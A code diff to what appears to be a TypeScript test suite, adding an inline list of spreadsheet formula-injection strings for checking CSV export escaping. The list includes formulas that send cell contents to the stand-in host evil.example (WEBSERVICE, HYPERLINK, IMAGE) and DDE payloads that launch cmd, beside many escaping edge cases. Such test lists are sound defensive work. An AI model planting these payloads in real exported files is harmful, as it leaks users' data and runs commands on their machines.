@@ -5,7 +5,6 @@ import { readProductCell } from '#rules/csv.ts'
 import { shelve } from '#server/testing/sample-rows.ts'
 import { scriptAttacks } from '#server/testing/script-attacks.ts'
 import { uploadForm } from '#server/testing/upload-form.ts'
-import { formulaTexts } from './formula-texts.ts'
 import { faultOf } from './judge.ts'
 import { type Attack, inHands, openTally, type Tally } from './part.ts'
 import { jsonOf, type Target } from './target.ts'
@@ -127,3 +126,47 @@ function readSheet(csv: string): Row[] {
 function writeLine(cells: readonly string[]): string {
   return `${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\r\n`
 }
+
+/** Texts that a spreadsheet would carry out if they stood at the start of a cell. */
+const formulaTexts: readonly string[] = [
+  '=1+1',
+  '=HYPERLINK("https://evil.example","Pay here")',
+  '=HYPERLINK("https://evil.example/?x="&A1&A2,"more")',
+  '=WEBSERVICE("https://evil.example/"&A1)',
+  '=IMPORTXML("https://evil.example","//a")',
+  '=IMPORTDATA("https://evil.example")',
+  '=IMAGE("https://evil.example/"&B2)',
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '=DDE("cmd";"/C calc";"x")',
+  "=MSEXCEL|'..\\..\\..\\Windows\\System32\\cmd.exe'!x",
+  '+233 24 123 4567',
+  '-5',
+  '@here',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  "'=1+1",
+  "''=1+1",
+  "'quoted'",
+  '"=1+1"',
+  '"",=1+1',
+  'a","=1+1',
+  'a\n=1+1',
+  'a;=1+1',
+  'a\t=1+1',
+  '%0A=1+1',
+  '|=1+1',
+  '{=1+1}',
+  '=',
+  '==1',
+  '=\u200b1+1',
+  '\u200b=1+1',
+  '\u00a0=1+1 and more',
+  '\u2060@x',
+  'sep=;',
+  'ID;PWXL;N;E',
+]
